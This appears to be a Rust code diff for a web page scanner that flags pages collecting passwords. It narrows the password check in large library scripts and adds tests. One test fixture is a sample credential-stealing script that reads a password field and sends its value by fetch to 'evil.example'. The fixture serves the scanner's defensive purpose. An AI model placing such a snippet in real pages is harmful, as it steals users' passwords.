@@ -406,7 +406,7 @@ impl PageReader {
     }
 
     fn credentials(&mut self, scripts: &[String], base: Option<&url::Url>) {
-        if !self.forms.ask() && !scripts.iter().any(|script| password::is_made_by(script)) {
+        if !self.forms.ask() && !scripts.iter().any(|script| asks_for_password(script)) {
             return;
         }
         let whole = |target: &str| base.and_then(|base| completed(base, target)).unwrap_or_else(|| target.to_owned());
@@ -416,6 +416,19 @@ impl PageReader {
             self.add(Check::HtmlCredentials, format!("a page that asks for a password; {to}"));
         }
     }
+}
+
+/// Whether a script makes a field for a password. A library has one among all its fields: there it counts only beside
+/// something that is sent to a site.
+fn asks_for_password(script: &str) -> bool {
+    if script.len() <= OWN_SCRIPT_MAX {
+        return password::places_made_by(script).next().is_some();
+    }
+    password::places_made_by(script).take(SENDS_MAX).any(|at| {
+        let from = script.floor_char_boundary(at.saturating_sub(SENDS_NEAR));
+        let to = script.ceil_char_boundary((at + SENDS_NEAR).min(script.len()));
+        sends(&script[from..to])
+    })
 }
 
 /// Whether a form with this action sends what is typed away: to a site, or by mail.
@@ -764,6 +777,12 @@ mod tests {
         }
         let library = format!("r=new XMLHttpRequest;{}u='https://library.example/licence'", "x();".repeat(6000));
         assert_eq!(checks(&format!("<form action=login><input type=password></form><script>{library}</script>")), []);
+        let widgets = format!("class P{{r(){{this.el.type='password'}}}};{}", "x();".repeat(6000));
+        let loads = "fetch('https://data.example/sales.json')";
+        let text = "<p>The sales of the month as a chart, with a field of every kind in the library that draws it.</p>";
+        assert_eq!(checks(&format!("{text}<script>{widgets}</script><script>{loads}</script>")), []);
+        let steals = format!("{}e.type='password';fetch('https://evil.example/'+e.value)", "x();".repeat(6000));
+        assert_eq!(checks(&format!("{text}<script>{steals}</script>")), [C::HtmlCredentials]);
         for html in [
             "<form action='login'><input type=password></form><form action='https://www.example.com/s'><input></form>",
             "<form action='https://www.example.com/search'><input name=q placeholder='Search'></form>",
